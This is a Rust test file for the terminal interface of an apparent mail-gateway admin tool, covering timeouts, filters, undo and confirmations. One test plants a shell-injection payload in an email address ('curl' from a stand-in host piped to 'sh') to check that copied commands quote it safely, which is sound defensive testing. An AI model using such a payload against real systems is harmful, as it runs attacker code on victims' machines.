//! What must not go wrong when something else does: requests that fail, answers that are late, keys
//! that come too early, addresses that are traps.

use gatepost::client::Mail;
use gatepost::client::Message;
use gatepost::tui::effect::Act;
use gatepost::tui::effect::Effect;
use gatepost::tui::effect::Load;
use gatepost::tui::model::Dialog;
use gatepost::tui::model::Link;
use gatepost::tui::model::Row;
use gatepost::tui::model::View;
use gatepost::tui::msg::Acted;
use gatepost::tui::msg::Answer;
use gatepost::tui::msg::Msg;
use gatepost::tui::msg::Problem;
use ratatui::crossterm::event::KeyCode;
use ratatui::crossterm::event::KeyEvent;
use ratatui::crossterm::event::KeyModifiers;

use super::data;
use super::desk::Desk;

fn problem(text: &str, unreachable: bool) -> Problem {
    Problem {
        text: text.to_owned(),
        code: None,
        unreachable,
    }
}

/// The numbers of the requests for pages that are on their way.
fn pages(desk: &mut Desk) -> Vec<u64> {
    let wanted = desk.wanted().into_iter();
    wanted
        .filter_map(|effect| match effect {
            Effect::Load(number, Load::Page(..)) => Some(number),
            _ => None,
        })
        .collect()
}

fn begun(desk: &mut Desk) -> Vec<(u64, Act, Vec<String>)> {
    let wanted = desk.wanted().into_iter();
    let acts = wanted.filter_map(|effect| match effect {
        Effect::Act(number, act, ids) => Some((number, act, ids)),
        _ => None,
    });
    acts.collect()
}

#[test]
fn one_request_that_took_too_long_is_made_again_and_no_lost_connection() {
    let mut desk = Desk::new();
    desk.press("2");
    desk.answers = false;
    desk.wanted();
    desk.press("ctrl-r");
    let asked = pages(&mut desk);
    let late = Answer::Failed(problem("no answer in time", true));
    desk.send(Msg::Answer(asked[0], late));
    assert!(matches!(desk.model.link, Link::Live { .. }));
    assert!(!desk.model.place().list.rows.is_empty());
    desk.answers = true;
    desk.pass(1000);
    assert_eq!(pages(&mut desk).len(), 1);
    assert_eq!(desk.model.place().list.problem, None);
}

#[test]
fn nothing_is_done_to_the_rows_from_before_the_filter() {
    let mut desk = Desk::new();
    desk.press("2");
    desk.answers = false;
    desk.press("/");
    desk.typed("bounce");
    for keys in ["enter A", "enter d", "space"] {
        desk.press(keys);
        assert!(
            !matches!(desk.model.dialog, Some(Dialog::Confirm(_))),
            "{keys}"
        );
        assert!(desk.model.place().list.marks.is_empty(), "{keys}");
        desk.press("/");
    }
    assert!(begun(&mut desk).is_empty());
}

#[test]
fn rows_of_another_filter_do_not_stand_in_for_those_that_did_not_come() {
    let mut desk = Desk::new();
    desk.press("2");
    desk.answers = false;
    desk.press("/");
    desk.typed("bounce");
    desk.press("enter");
    desk.pass(10);
    let asked = *pages(&mut desk)
        .last()
        .expect("the filtered list is asked for");
    let no = Answer::Failed(problem("q: too long", false));
    desk.send(Msg::Answer(asked, no));
    assert!(desk.model.place().list.rows.is_empty());
    assert!(desk.screen().contains("q: too long"), "{}", desk.screen());
}

#[test]
fn a_command_line_is_safe_to_paste_whatever_an_address_holds() {
    let trap = "`curl${IFS}x.example|sh`@example.com";
    let mut desk = Desk::new();
    for row in desk.server(View::Outbox) {
        if let Row::Mail(mail) = row {
            **mail = Mail {
                to: trap.to_owned(),
                ..(**mail).clone()
            };
        }
    }
    desk.press("2 t Y");
    let copied = desk.wanted().into_iter().find_map(|effect| match effect {
        Effect::Copy { text, .. } => Some(text),
        _ => None,
    });
    let copied = copied.expect("the command was copied");
    assert!(copied.contains(&format!("'{trap}'")), "{copied}");
}

#[test]
fn esc_and_a_letter_in_one_go_confirm_nothing() {
    let mut desk = Desk::new();
    desk.press("2 d");
    for code in [KeyCode::Char('y'), KeyCode::Enter] {
        for modifiers in [KeyModifiers::ALT, KeyModifiers::CONTROL] {
            desk.send(Msg::Key(KeyEvent::new(code, modifiers)));
        }
    }
    assert!(begun(&mut desk).is_empty());
}

#[test]
fn what_became_of_a_change_is_told_after_the_connection_was_lost_too() {
    let mut desk = Desk::new();
    desk.answers = false;
    desk.press("2");
    desk.answers = true;
    desk.press("ctrl-r");
    desk.answers = false;
    desk.press("d y");
    let (number, act, ids) = begun(&mut desk).pop().expect("it was begun");
    assert_eq!(act, Act::Discard);
    desk.send(Msg::Lost(problem("connection refused", true)));
    let acted = ids.iter().map(|id| Acted {
        id: id.clone(),
        outcome: Ok("discarded".to_owned()),
    });
    desk.send(Msg::Answer(number, Answer::Acted(acted.collect())));
    let undo = desk.model.undo.last().map(|undo| undo.ids.clone());
    assert_eq!(undo, Some(ids));
}

#[test]
fn a_mail_that_came_while_one_looked_elsewhere_is_there_on_the_way_back() {
    let mut desk = Desk::new();
    desk.press("2");
    desk.answers = false;
    desk.press("enter");
    desk.pass(600);
    let asked = desk
        .wanted()
        .into_iter()
        .find(|effect| matches!(effect, Effect::Load(_, Load::Mail(_))));
    let asked = asked.expect("the mail is asked for");
    desk.press("t");
    let answer = desk.answer(&asked).expect("the server has it");
    desk.send(answer);
    desk.press("esc");
    let looking = desk.model.place().looking.as_ref();
    assert!(looking.is_some_and(|looking| looking.mail.is_some()));
}

#[test]
fn the_secret_that_is_revealed_is_that_of_the_row_under_the_eyes() {
    let mut desk = Desk::new();
    desk.press("3 space");
    let selected = desk.selected();
    desk.press("v y");
    let revealed = begun(&mut desk).pop().map(|(_, act, ids)| (act, ids));
    assert_eq!(revealed, Some((Act::Reveal, vec![selected])));
}

#[test]
fn everything_that_the_operator_does_has_a_name_in_the_record() {
    use gatepost::language::Language;
    use gatepost::tui::words::Words;
    let actions = [
        "outbox_retry",
        "outbox_requeue",
        "outbox_discard",
        "outbox_undo",
        "user_lock",
        "user_unlock",
        "user_send_reset",
        "user_end_sessions",
        "session_end",
        "token_revoke",
        "token_reveal",
        "route_pause",
        "route_resume",
        "inbox_delete",
        "inbox_clear",
        "key_create",
        "key_revoke",
        "test_mail",
    ];
    for language in Language::ALL {
        for action in actions {
            let key = format!("action_{action}");
            assert!(Words(language).find(&key).is_some(), "{language:?} {key}");
        }
    }
}

#[test]
fn two_discards_are_taken_back_one_after_the_other() {
    let mut desk = Desk::new();
    desk.press("2");
    let mut discarded = Vec::new();
    for keys in ["d y", "j j d y"] {
        desk.press(keys);
        discarded.extend(begun(&mut desk).into_iter().map(|(_, _, ids)| ids));
    }
    assert_eq!(discarded.len(), 2);
    desk.press("u u");
    let undone = begun(&mut desk).into_iter().map(|(_, act, ids)| (act, ids));
    let expected = discarded.into_iter().rev().map(|ids| (Act::Undo, ids));
    assert_eq!(undone.collect::<Vec<_>>(), expected.collect::<Vec<_>>());
}

#[test]
fn html_is_laid_out_for_the_width_that_it_is_shown_in() {
    let mut desk = Desk::new();
    desk.answers = false;
    desk.press("1 j enter");
    desk.pass(500);
    let asked = desk.wanted().into_iter().filter_map(|effect| match effect {
        Effect::Load(number, Load::Message(id)) => Some((number, id)),
        _ => None,
    });
    let (number, id) = asked.last().expect("the mail is asked for");
    let message = Message {
        html: Some("<p>Hello <b>Ann</b></p>".to_owned()),
        ..data::whole(&id)
    };
    let answer = Answer::Message(Some(Box::new(message)));
    desk.send(Msg::Answer(number, answer));
    desk.answers = true;
    desk.press("right");
    for (width, again) in [(80, true), (99, true), (80, true), (80, false)] {
        desk.wanted();
        desk.send(Msg::Resize(width, 30));
        let laid_out = desk.wanted().into_iter().any(
            |effect| matches!(effect, Effect::LayOut { width: columns, .. } if columns <= width),
        );
        assert_eq!(laid_out, again, "{width}\n{}", desk.screen());
    }
}
